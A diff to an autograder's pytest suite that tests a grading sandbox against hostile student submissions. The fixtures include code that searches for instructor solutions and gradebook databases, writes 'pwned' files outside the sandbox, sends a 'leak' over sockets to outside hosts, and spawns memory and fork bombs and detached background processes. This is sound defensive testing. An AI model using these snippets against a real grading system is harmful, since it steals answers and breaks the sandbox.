@@ -8,6 +8,7 @@ graded in the same run scores full, and a grade written before the run is untouc
 import hashlib
 import io
 import json
+import random
 import socket
 import subprocess
 import sys
@@ -16,10 +17,10 @@ from pathlib import Path
 
 import pytest
 
-from course.grading import gradebook, pipeline, sandbox
+from course.grading import gradebook, pipeline
 from course.grading.sandbox import Limits
 
-from .submissions import ASSIGNMENT, NOTEBOOK, SOURCE, code_cell, relabelled, solved, write
+from .submissions import ASSIGNMENT, NOTEBOOK, SOURCE, relabelled, solved, write
 
 pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("grading")]
 
@@ -27,7 +28,8 @@ LIMITS = Limits(wall_s=5, cpu_s=5, memory_bytes=1 << 30, nproc=32, log_max=1 << 
 FULL = 12.0
 
 ZEROS = {
-    "1.1": "def rnn_step_forward(x, h_prev, W, U, b_h):\n    return np.zeros((x.shape[0], W.shape[0]))\n",
+    "1.1": ("def rnn_step_forward(x, h_prev, W, U, b_h):\n"
+            "    return np.zeros((x.shape[0], W.shape[0]))\n"),
     "1.2": "def rnn_forward(x, h0, W, U, b_h):\n    return np.zeros((x.shape[0],) + h0.shape)\n",
     "1.3": "def output_forward(h, V, b_y):\n    return np.zeros(h.shape[:-1] + (V.shape[0],))\n",
     "1.4": "def softmax_cross_entropy(z, y):\n    return 0.0\n",
@@ -39,7 +41,8 @@ def _steal():
     """Find the instructor's notebook, the gradebook or someone else's work; run its code."""
     found = [p for p in PATHS if os.path.exists(p)]
     found += glob.glob("/work/**/solutions/**/*.ipynb", recursive=True)
-    found += glob.glob("/root/**/*.db", recursive=True) + glob.glob("/tmp/**/*.ipynb", recursive=True)
+    found += glob.glob("/root/**/*.db", recursive=True)
+    found += glob.glob("/tmp/**/*.ipynb", recursive=True)
     for path in found:
         try:
             nb = json.load(open(path))
@@ -115,7 +118,8 @@ def graded(tmp_path_factory):
 
     add("honest_again", FULL, "", solved())
     add("infinite_loop", FULL - 3, "stopped after 5 s",
-        solved(replace={"1.2": "def rnn_forward(x, h0, W, U, b_h):\n    while True:\n        pass\n"}))
+        solved(replace={"1.2": "def rnn_forward(x, h0, W, U, b_h):\n    while True:\n"
+                               "        pass\n"}))
     add("memory_bomb", FULL - 3, "ran out of memory", solved(replace={"1.3": (
         "def output_forward(h, V, b_y):\n    hog = np.ones(1 << 28)   # 2 GiB\n"
         "    return h @ V.T + b_y\n")}))
@@ -160,7 +164,8 @@ def graded(tmp_path_factory):
     add("reader", 0.0, "wrong values", _stealer([str(SOURCE), str(db), str(good_nb)]))
     add("uses_rnnlib", FULL - 3, "uses rnnlib", solved(replace={"1.1": (
         "from rnnlib.rnn import rnn_step_forward as _step\n"
-        "def rnn_step_forward(x, h_prev, W, U, b_h):\n    return _step(x, h_prev, W, U, b_h)[0]\n")}))
+        "def rnn_step_forward(x, h_prev, W, U, b_h):\n"
+        "    return _step(x, h_prev, W, U, b_h)[0]\n")}))
     targets = [str(SOURCE.parent / "pwned"), str(db), str(good_nb), str(outside / "pwned")]
     add("writer", FULL, "", solved(before=[
         "import os\n"
@@ -173,11 +178,12 @@ def graded(tmp_path_factory):
         "for host, port in [('127.0.0.1', %d), ('1.1.1.1', 80), ('pypi.org', 443)]:\n"
         "    try:\n        socket.create_connection((host, port), timeout=1).sendall(b'leak')\n"
         "        NETWORK = True\n    except OSError:\n        pass\n" % listener.port]))
+    token = random.randrange(100000, 900000)   # names this run's background processes
     add("background", FULL, "", solved(before=[
-        "import os, subprocess, time\n"
-        "subprocess.Popen(['sleep', '600'])\n"
+        "import os, subprocess\n"
+        f"subprocess.Popen(['sleep', '{token}'])\n"
         "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
-        "        time.sleep(600)\n    os._exit(0)\n"]))
+        f"        os.execvp('sleep', ['sleep', '{token + 1}'])\n    os._exit(0)\n"]))
     add("partial", FULL - 3, "averaged over time", solved(replace={"1.4": (
         "def softmax_cross_entropy(z, y):\n"
         "    s = z - z.max(axis=-1, keepdims=True)\n"
@@ -196,10 +202,9 @@ def graded(tmp_path_factory):
     expected["honest"] = (FULL, "")
 
     # a grade recorded before this run, for a student not in it
-    pipeline.grade_class  # (imported for the run below)
-    source_path = SOURCE
-    gradebook.register_assignment(db_url, ASSIGNMENT, NOTEBOOK, source_path)
-    earlier = {"test_task1_1_rnn_step_forward_public": 1.0, "test_task1_1_rnn_step_forward_hidden": 0.0}
+    gradebook.register_assignment(db_url, ASSIGNMENT, NOTEBOOK, SOURCE)
+    earlier = {"test_task1_1_rnn_step_forward_public": 1.0,
+               "test_task1_1_rnn_step_forward_hidden": 0.0}
     gradebook.write_scores(db_url, ASSIGNMENT, NOTEBOOK, "earlier", earlier)
     good_hash = _sha(good_nb)
 
@@ -211,7 +216,7 @@ def graded(tmp_path_factory):
     return dict(records={r["student"]: r for r in records}, expected=expected, out=out,
                 db_url=db_url, listener=listener, outside=outside, targets=targets,
                 good_nb=good_nb, good_hash=good_hash, earlier=earlier, log=log.getvalue(),
-                submitted=submitted, course=course)
+                submitted=submitted, course=course, token=token)
 
 
 STUDENTS = ["honest_again", "infinite_loop", "memory_bomb", "fork_bomb", "os_exit",
@@ -259,10 +264,9 @@ def test_no_network(graded):
 
 
 def test_no_process_outlives_grading(graded):
-    ps = subprocess.run(["ps", "-eo", "uid=,args="], capture_output=True, text=True).stdout
-    left = [line for line in ps.splitlines()
-            if sandbox.UID_MIN <= int(line.split()[0]) < sandbox.UID_MAX]
-    assert left == []
+    ps = subprocess.run(["ps", "-eo", "args="], capture_output=True, text=True).stdout
+    started = {f"sleep {graded['token']}", f"sleep {graded['token'] + 1}"}
+    assert not [line for line in ps.splitlines() if line.strip() in started]
 
 
 HIDDEN_BITS = ["default_rng(11)", "reference_nll", "BEGIN HIDDEN", "reference_step",
